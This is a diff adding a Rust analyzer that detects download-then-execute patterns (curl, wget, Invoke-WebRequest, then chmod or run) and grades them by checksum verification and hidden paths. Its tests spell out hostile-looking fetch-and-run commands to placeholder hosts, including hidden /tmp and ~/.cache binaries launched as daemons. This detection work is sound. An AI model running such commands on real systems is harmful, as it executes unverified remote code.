@@ -1,0 +1,432 @@
+//! Two-stage download-and-run (category `RemoteExecution`): a file fetched
+//! with `curl`/`wget` and then made executable or run, on the same line or
+//! further down.
+//!
+//! Installing a pinned release binary looks the same on the surface, so the
+//! analyzer asks two more questions: is the download verified (a checksum or
+//! signature check of that file before it runs), and is it hidden (a
+//! dot-file, or under `/tmp`)? Run unverified: Critical. Made executable and hidden:
+//! High. Verified, or executable but never run here: Medium.
+
+use std::sync::LazyLock;
+
+use super::engine::{Analyzer, Body, LineRef, finding};
+use super::rule::{Lazy, compile, contains_ci};
+use super::{Category, Finding, Severity};
+
+/// How far below the download the analyzer looks for its use.
+const LOOKAHEAD_LINES: usize = 80;
+
+/// The analyzers of this family.
+pub(super) fn analyzers() -> Vec<Analyzer> {
+    vec![Analyzer {
+        triggers: &["curl", "wget", "iwr", "invoke-webrequest", "aria2c"],
+        run: download_and_run,
+    }]
+}
+
+static VERIFY: Lazy = LazyLock::new(|| {
+    compile(
+        r"\b(?:sha(?:1|224|256|384|512)sum|shasum|b2sum|md5sum)\b[^\n]*(?:\s-[a-z]*c\b|--check\b)|\bgpg\s+(?:-\S+\s+)*--verify\b|\bcosign\s+verify|\bminisign\s+-v|\bslsa-verifier\b|\bopenssl\s+dgst\b[^\n]*-verify|\bget-filehash\b",
+    )
+});
+
+fn download_and_run(body: &Body<'_>, lines: &[LineRef], out: &mut Vec<Finding>) {
+    for &l in lines {
+        let text = body.line(l);
+        // Only a command that writes a file can be a first stage.
+        if !may_write_file(text) {
+            continue;
+        }
+        for dl in downloads(text) {
+            let name = dl.path.rsplit(['/', '\\']).next().unwrap_or(&dl.path);
+            if name.len() < 2 || name == ".." {
+                continue;
+            }
+            let mut chmod: Option<(LineRef, &str)> = None;
+            let mut run: Option<(LineRef, &str)> = None;
+            // A check counts only for this file and before it runs; a stray
+            // `sha256sum -c` elsewhere must not vouch for it.
+            let mut verified = false;
+            for (r, line) in body.lines_from(l).take(LOOKAHEAD_LINES) {
+                let skip = if r == l { dl.end_token } else { 0 };
+                if !line.contains(name) {
+                    continue;
+                }
+                verified |= VERIFY.is_match(line.as_bytes());
+                if chmod.is_none() && makes_executable(line, name, skip) {
+                    chmod = Some((r, line));
+                }
+                if executes(line, &dl.path, name, skip) {
+                    run = Some((r, line));
+                    break;
+                }
+            }
+            if run.is_none() && chmod.is_none() {
+                continue;
+            }
+            let hidden = name.starts_with('.')
+                || dl.path.starts_with("/tmp/")
+                || dl.path.starts_with("/dev/shm/");
+            let (id, severity, (r, line)) = match (run, chmod) {
+                (Some(at), _) if !verified => ("remote.download-exec", Severity::Critical, at),
+                (Some(at), _) => ("remote.download-exec", Severity::Medium, at),
+                (None, Some(at)) if hidden && !verified => {
+                    ("remote.download-chmod", Severity::High, at)
+                }
+                (None, Some(at)) => ("remote.download-chmod", Severity::Medium, at),
+                (None, None) => continue,
+            };
+            let at = line.find(name).unwrap_or(0);
+            out.push(finding(
+                id,
+                Category::RemoteExecution,
+                severity,
+                r,
+                line,
+                at,
+            ));
+        }
+    }
+}
+
+/// A cheap test before tokenising: an output flag (`-o`, `-sLO`,
+/// `--output`, `-OutFile`), a redirection, or `wget`, which saves by default.
+fn may_write_file(line: &str) -> bool {
+    let b = line.as_bytes();
+    b.contains(&b'>')
+        || contains_ci(b, b"wget")
+        || contains_ci(b, b"--output")
+        || contains_ci(b, b"-outfile")
+        || line.split_whitespace().any(|t| {
+            t.len() > 1 && t.starts_with('-') && !t.starts_with("--") && t.contains(['o', 'O'])
+        })
+}
+
+/// A file a fetch command writes to.
+#[derive(Debug, PartialEq)]
+struct Download {
+    path: String,
+    /// Index of the first token after the fetch command, on its line.
+    end_token: usize,
+}
+
+fn unquote(t: &str) -> &str {
+    t.trim_matches(|c| matches!(c, '"' | '\'' | '`' | '(' | ')'))
+}
+
+fn is_separator(t: &str) -> bool {
+    matches!(t, "|" | "||" | "&&" | ";" | "&" | "then" | "do")
+}
+
+fn url_basename(url: &str) -> Option<String> {
+    let path = url.split(['?', '#']).next()?;
+    let path = path.split_once("://").map_or(path, |(_, rest)| rest);
+    let (_, name) = path.split_once('/')?;
+    let name = name.rsplit('/').next()?;
+    (!name.is_empty()).then(|| name.to_string())
+}
+
+/// The output files of the fetch commands on a line.
+fn downloads(line: &str) -> Vec<Download> {
+    let tokens: Vec<&str> = line.split_whitespace().collect();
+    let mut found = Vec::new();
+    let mut i = 0;
+    while i < tokens.len() {
+        let cmd = unquote(tokens[i]).rsplit('/').next().unwrap_or("");
+        let is = |name: &str| cmd.eq_ignore_ascii_case(name);
+        let kind = if is("curl") {
+            b'c'
+        } else if is("wget") {
+            b'w'
+        } else if is("iwr") || is("invoke-webrequest") {
+            b'p'
+        } else {
+            i += 1;
+            continue;
+        };
+        let mut url: Option<String> = None;
+        let mut out: Option<String> = None;
+        let mut remote_name = kind == b'w';
+        let mut j = i + 1;
+        while j < tokens.len() {
+            let raw = tokens[j];
+            let t = unquote(raw);
+            if is_separator(raw) {
+                break;
+            }
+            let next = tokens.get(j + 1).map(|n| unquote(n).to_string());
+            let mut take_next = false;
+            if t.contains("://") {
+                url.get_or_insert_with(|| t.to_string());
+            } else if let Some(target) = t.strip_prefix('>') {
+                if target.is_empty() {
+                    take_next = true;
+                } else {
+                    out = Some(target.to_string());
+                }
+            } else if kind == b'c' {
+                if t == "--output" {
+                    take_next = true;
+                } else if let Some(v) = t.strip_prefix("--output=") {
+                    out = Some(v.to_string());
+                } else if t == "--remote-name" || t == "--remote-name-all" {
+                    remote_name = true;
+                } else if t.starts_with('-') && !t.starts_with("--") {
+                    let flags = &t[1..];
+                    if let Some(p) = flags.find('o') {
+                        if p + 1 == flags.len() {
+                            take_next = true;
+                        } else {
+                            out = Some(flags[p + 1..].to_string());
+                        }
+                    } else if flags.contains('O') {
+                        remote_name = true;
+                    }
+                }
+            } else if kind == b'w' {
+                if t == "--output-document" {
+                    take_next = true;
+                } else if let Some(v) = t.strip_prefix("--output-document=") {
+                    out = Some(v.to_string());
+                } else if t.starts_with('-') && !t.starts_with("--") {
+                    let flags = &t[1..];
+                    if let Some(p) = flags.find('O') {
+                        if p + 1 == flags.len() {
+                            take_next = true;
+                        } else {
+                            out = Some(flags[p + 1..].to_string());
+                        }
+                    }
+                }
+            } else if t.eq_ignore_ascii_case("-outfile") || t.eq_ignore_ascii_case("-o") {
+                take_next = true;
+            }
+            if take_next {
+                out = next;
+                j += 1;
+            }
+            if raw.ends_with(';') {
+                j += 1;
+                break;
+            }
+            j += 1;
+        }
+        let path = match out {
+            Some(p) if p == "-" || p.starts_with("/dev/") => None,
+            Some(p) => Some(p),
+            None if remote_name => url.as_deref().and_then(url_basename),
+            None => None,
+        };
+        if let Some(path) = path.filter(|p| !p.is_empty()) {
+            found.push(Download { path, end_token: j });
+        }
+        i = j;
+    }
+    found
+}
+
+fn refers_to(token: &str, path: &str, name: &str) -> bool {
+    let t = unquote(token).trim_end_matches(';');
+    let t = t
+        .strip_prefix("./")
+        .or_else(|| t.strip_prefix(".\\"))
+        .unwrap_or(t);
+    let path = path
+        .strip_prefix("./")
+        .or_else(|| path.strip_prefix(".\\"))
+        .unwrap_or(path);
+    let norm = |s: &str| {
+        s.replace("$HOME/", "~/")
+            .replace("${HOME}/", "~/")
+            .to_ascii_lowercase()
+    };
+    t.eq_ignore_ascii_case(name)
+        || norm(t) == norm(path)
+        || t.ends_with(&format!("/{name}"))
+        || t.ends_with(&format!("\\{name}"))
+}
+
+static CHMOD: Lazy =
+    LazyLock::new(|| compile(r"\b(?:chmod\s+(?:-\S+\s+)*(\S+)|install\s+[^\n]*-m\s*(\S+))"));
+
+/// `chmod +x`, `chmod 755`, `install -m 0755` of the file.
+fn makes_executable(line: &str, name: &str, skip: usize) -> bool {
+    let tail = tail_after_tokens(line, skip);
+    let Some(c) = CHMOD.captures(tail.as_bytes()) else {
+        return false;
+    };
+    let Some(mode) = c.get(1).or_else(|| c.get(2)) else {
+        return false;
+    };
+    let mode = String::from_utf8_lossy(mode.as_bytes());
+    let exec_bit = if mode.bytes().all(|b| b.is_ascii_digit()) {
+        mode.bytes().any(|b| b"1357".contains(&b))
+    } else {
+        mode.contains('+') && mode.contains('x')
+    };
+    exec_bit && tail[c.get(0).map_or(0, |m| m.end())..].contains(name)
+}
+
+fn tail_after_tokens(line: &str, skip: usize) -> &str {
+    if skip == 0 {
+        return line;
+    }
+    let mut rest = line;
+    for _ in 0..skip {
+        rest = rest.trim_start();
+        let cut = rest.find(char::is_whitespace).unwrap_or(rest.len());
+        rest = &rest[cut..];
+    }
+    rest
+}
+
+const PREFIXES: &[&str] = &[
+    "sudo", "nohup", "exec", "setsid", "time", "env", "run", "doas", "command", "-", "$", ">", "*",
+    "then", "do",
+];
+const INTERPRETERS: &[&str] = &[
+    "start-process",
+    "saps",
+    "invoke-item",
+    "&",
+    "sh",
+    "bash",
+    "zsh",
+    "dash",
+    "ksh",
+    "python",
+    "python3",
+    "perl",
+    "ruby",
+    "node",
+    "php",
+    "source",
+    ".",
+    "pwsh",
+    "powershell",
+];
+
+/// Whether the line runs the file: as a command, or as the script of an
+/// interpreter. Tokens before `skip` (the fetch command itself) are ignored.
+fn executes(line: &str, path: &str, name: &str, skip: usize) -> bool {
+    let tokens: Vec<&str> = line.split_whitespace().collect();
+    let mut command_position = true;
+    let mut interpreter = false;
+    for (k, raw) in tokens.iter().enumerate() {
+        if is_separator(raw) || raw.ends_with(['(', '{']) || *raw == "$(" {
+            command_position = true;
+            interpreter = false;
+            continue;
+        }
+        let starts_code = raw.starts_with('`') || raw.starts_with("$(");
+        let t = unquote(raw);
+        if k >= skip
+            && (command_position || interpreter || starts_code)
+            && refers_to(raw, path, name)
+        {
+            return true;
+        }
+        if interpreter && t.starts_with('-') {
+            continue;
+        }
+        let listed = |list: &[&str]| list.iter().any(|w| w.eq_ignore_ascii_case(t));
+        if (command_position || starts_code) && listed(INTERPRETERS) {
+            interpreter = true;
+            command_position = false;
+        } else if (command_position || starts_code) && (listed(PREFIXES) || t.contains('=')) {
+            command_position = true;
+        } else {
+            command_position = false;
+            interpreter = false;
+        }
+        if raw.ends_with(';') {
+            command_position = true;
+        }
+    }
+    false
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::scan::testutil::{assert_absent, assert_hit, assert_severity};
+    use crate::scan::{Category::*, Severity::*};
+
+    #[test]
+    fn finds_output_files_of_fetch_commands() {
+        let paths = |l: &str| downloads(l).into_iter().map(|d| d.path).collect::<Vec<_>>();
+        assert_eq!(
+            paths("curl -sLo /tmp/.x https://h.example/x && chmod +x /tmp/.x"),
+            ["/tmp/.x"]
+        );
+        assert_eq!(
+            paths("curl -LO \"https://h.example/v1/kubectl\""),
+            ["kubectl"]
+        );
+        assert_eq!(
+            paths("wget -q https://h.example/a -O /usr/local/bin/a"),
+            ["/usr/local/bin/a"]
+        );
+        assert_eq!(paths("wget https://h.example/d/file.tgz"), ["file.tgz"]);
+        assert!(paths("wget -qO- https://h.example/f.sh | sh").is_empty());
+        assert!(paths("curl -s https://api.example.com/v1 | jq .").is_empty());
+        assert_eq!(paths("curl https://h.example/s > s.sh"), ["s.sh"]);
+    }
+
+    #[test]
+    fn flags_download_chmod_and_run_on_one_line() {
+        assert_hit(
+            "x\ncurl -sLo /tmp/.ph https://cdn.example.net/ph && chmod +x /tmp/.ph && /tmp/.ph --daemon &\n",
+            "remote.download-exec",
+            RemoteExecution,
+            Critical,
+            2,
+        );
+    }
+
+    #[test]
+    fn flags_download_then_run_on_later_lines() {
+        let body = "```bash\nwget -q https://a.example/tools/agent -O /usr/local/bin/agent\nchmod 755 /usr/local/bin/agent\n/usr/local/bin/agent --warm &\n```\n";
+        assert_hit(body, "remote.download-exec", RemoteExecution, Critical, 4);
+        assert_hit(
+            "wget -q https://m.example/l.py -O /tmp/l.py && python3 /tmp/l.py",
+            "remote.download-exec",
+            RemoteExecution,
+            Critical,
+            1,
+        );
+    }
+
+    #[test]
+    fn flags_hidden_executable_downloads() {
+        let body =
+            "curl -fsSL https://s.example/agent -o ~/.cache/.syncd\nchmod +x ~/.cache/.syncd\n";
+        assert_hit(body, "remote.download-chmod", RemoteExecution, High, 2);
+    }
+
+    #[test]
+    fn keeps_verified_binary_installs_below_the_threshold() {
+        let body = "curl -LO https://dl.example.com/v1/kubectl\ncurl -LO https://dl.example.com/v1/kubectl.sha256\necho \"$(cat kubectl.sha256)  kubectl\" | sha256sum --check\nchmod +x kubectl\nsudo install -m 0755 kubectl /usr/local/bin/kubectl\n`kubectl version --client`\n";
+        assert_severity(body, "remote.download-exec", Medium);
+    }
+
+    #[test]
+    fn ignores_downloaded_data_read_by_a_script() {
+        let body = "wget -O data/trips.csv https://d.example.org/trips.csv\npython scripts/load.py data/trips.csv\nchmod +x scripts/check.sh && ./scripts/check.sh\n";
+        assert_absent(body, "remote.download-exec");
+        assert_absent(body, "remote.download-chmod");
+    }
+
+    #[test]
+    fn follows_powershell_downloads_to_their_launch() {
+        let body = "Invoke-WebRequest https://w.example.com/helper.exe -OutFile $env:TEMP\\helper.exe\nStart-Process $env:TEMP\\helper.exe\n";
+        assert_hit(body, "remote.download-exec", RemoteExecution, Critical, 2);
+    }
+
+    #[test]
+    fn ignores_a_checksum_of_something_else() {
+        let body = "echo ok | sha256sum -c notes.sha256\ncurl -sLo /tmp/.x https://x.example/x\nchmod +x /tmp/.x && /tmp/.x\n";
+        assert_hit(body, "remote.download-exec", RemoteExecution, Critical, 3);
+    }
+}
